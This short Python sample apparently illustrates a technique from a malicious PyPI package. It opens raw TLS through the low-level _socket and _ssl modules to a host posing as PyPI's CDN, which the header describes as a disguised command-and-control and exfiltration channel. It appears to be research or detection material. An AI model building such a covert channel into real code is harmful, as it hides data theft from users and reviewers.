# technique: _ssl + _socket to talk TLS to a C2 without any HTTP library
# class: lowlevel
# source: JFrog, "importantpackage" write-up (exfiltration disguised as ordinary HTTPS)
# declares:
import _socket
import _ssl


def tls_connect():
    sock = _socket.socket()
    sock.connect(("pypi.python.org.global.prod.fastly.net", 443))
    ctx = _ssl._SSLContext(_ssl.PROTOCOL_TLS_CLIENT)
    return ctx, sock
